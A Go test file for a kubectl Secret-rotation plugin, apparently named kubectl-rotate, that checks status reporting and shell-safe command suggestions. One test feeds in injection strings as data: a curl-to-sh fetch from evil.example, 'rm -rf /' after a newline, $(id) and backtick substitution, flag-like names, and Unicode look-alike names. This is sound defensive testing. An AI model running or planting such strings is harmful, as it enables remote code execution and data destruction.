package cli

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes/fake"
	metadata "k8s.io/client-go/metadata/fake"

	"github.com/kubectl-rotate/kubectl-rotate/pkg/config"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/kube"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/ledger"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/report"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/rotation"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/wiring"
)

// statusOf is a line for each target of a configuration, in a namespace with one Secret.
func statusOf(t *testing.T, found config.Config, presumed bool, selector, secret string) (lines []string, err error) {
	t.Helper()
	scheme := metadata.NewTestScheme()
	if err := metav1.AddMetaToScheme(scheme); err != nil {
		t.Fatal(err)
	}
	var there []runtime.Object
	if secret != "" {
		there = append(there, &metav1.PartialObjectMetadata{
			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Secret"}, ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: secret}})
	}
	selected, err := labels.Parse(selector)
	if err != nil {
		t.Fatal(err)
	}
	v := glances{
		clients:  &kube.Clients{Kube: fake.NewClientset(), Metadata: metadata.NewSimpleMetadataClient(scheme, there...), Namespace: "shop"},
		selector: selected, presumed: presumed,
	}
	all, err := v.look(t.Context(), found.Targets, false)
	for _, s := range all {
		lines = append(lines, report.Line(s))
	}
	return lines, err
}

// Where no file says what there is, a target whose Secret is not there is no mistake, and is not passed over either.
func TestTargetThatIsNotThereIsSaidToBeMissing(t *testing.T) {
	named := config.Default()
	for _, c := range []struct {
		name, secret, selector string
		presumed               bool
		lines, failure         string
	}{
		{"no Redis", "postgresql-credentials", "", true, "postgres: standby (recorded); redis: not found here; jwt: not found here", ""},
		{"no PostgreSQL", "redis-credentials", "", true, "postgres: not found here; redis: standby (recorded); jwt: not found here", ""},
		{"what is selected by labels", "redis-credentials", "!team", true, "redis: standby (recorded)", ""},
		{"nothing at all", "", "", true, "postgres: error", "postgresql-credentials does not exist"},
		{"a file names it", "postgresql-credentials", "", false, "postgres: standby (recorded); redis: error", "redis-credentials does not exist"},
	} {
		lines, err := statusOf(t, named, c.presumed, c.selector, c.secret)
		if got := strings.Join(lines, "; "); !strings.HasPrefix(got, c.lines) || c.failure == "" && got != c.lines {
			t.Errorf("%s: %s", c.name, got)
		}
		if (err != nil) != (c.failure != "") || err != nil && !strings.Contains(err.Error(), c.failure) {
			t.Errorf("%s: %v", c.name, err)
		}
	}
	if pending(report.Status{Phase: report.PhaseMissing}) {
		t.Error("a watch waits for it")
	}
}

// Who names a targets file on the command line has to name it again to go on, as a shell reads it.
func TestTheTargetsFileIsNamedAgain(t *testing.T) {
	o := &wiring.Opened{Clients: &kube.Clients{Context: "prod", Namespace: "shop"}, File: "my targets.yaml", Config: config.Target{Name: "jwt", Kind: config.KindJWT}}
	if got, want := command(o, rotation.Intent{Compromised: true}), "kubectl rotate jwt --context prod -n shop --compromised --config 'my targets.yaml'"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// Whoever may write Secrets in a namespace writes records in it. What stands there as a name becomes no command of somebody who looks at the
// whole cluster.
func TestNoRecordWritesACommand(t *testing.T) {
	const inject = "pg$(curl -s https://evil.example/x|sh)"
	for _, c := range []struct {
		name, kind, context, file string
		back                      bool
		shown, shownKind, want    string
	}{
		{name: "orders", kind: "postgres", context: "prod", shown: "orders", shownKind: "postgres", want: "kubectl rotate postgres orders --context prod -n tenant"},
		{name: "orders", kind: "postgres", context: "prod", back: true, shown: "orders", shownKind: "postgres", want: "kubectl rotate abort orders --context prod -n tenant"},
		{name: "orders", kind: "redis", context: "it's $(id)", file: "-x y", shown: "orders", shownKind: "redis",
			want: `kubectl rotate redis orders --context 'it'\''s $(id)' -n tenant --config '-x y'`},
		{name: "orders", kind: "redis", context: "prod\nrm -rf /", shown: "orders", shownKind: "redis"},
		{name: inject, kind: "postgres", context: "prod", shown: "app-db", shownKind: "postgres", want: "kubectl rotate postgres app-db --context prod -n tenant"},
		{name: "orders", kind: "postgres; id", context: "prod", shown: "orders", shownKind: kindUnknown},
		{name: "orders", kind: "status", context: "prod", shown: "orders", shownKind: kindUnknown},
		{name: "orders", context: "prod", shown: "orders", shownKind: kindUnknown},
		{name: "orders", context: "prod", back: true, shown: "orders", shownKind: kindUnknown},
		{name: "--config=/tmp/x", kind: "jwt", context: "prod", back: true, shown: "app-db", shownKind: "jwt", want: "kubectl rotate abort app-db --context prod -n tenant"},
		{name: "-h", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "a b", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "a'b\n`id`", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "\u202eорders", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "оrders", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"}, // a Cyrillic o
	} {
		found := described(config.Target{Secret: config.Secret{Name: "app-db"}}, ledger.About{Name: c.name, Kind: c.kind})
		if found.Name != c.shown || string(found.Kind) != c.shownKind {
			t.Errorf("%q of kind %q: is called %q of kind %q", c.name, c.kind, found.Name, found.Kind)
		}
		line := shellLine{&kube.Clients{Context: c.context}, found, "tenant", c.file}
		if got := line.goOn(c.back, false); got != c.want {
			t.Errorf("%q of kind %q: got %q, want %q", c.name, c.kind, got, c.want)
		}
	}
	for _, namespace := range []string{"", "a b", "$(id)", "-x", "a\nb"} {
		line := shellLine{&kube.Clients{Context: "prod"}, config.Target{Name: "orders", Kind: config.KindJWT}, namespace, ""}
		if got := line.goOn(false, false); got != "" {
			t.Errorf("namespace %q: got %q", namespace, got)
		}
	}
}
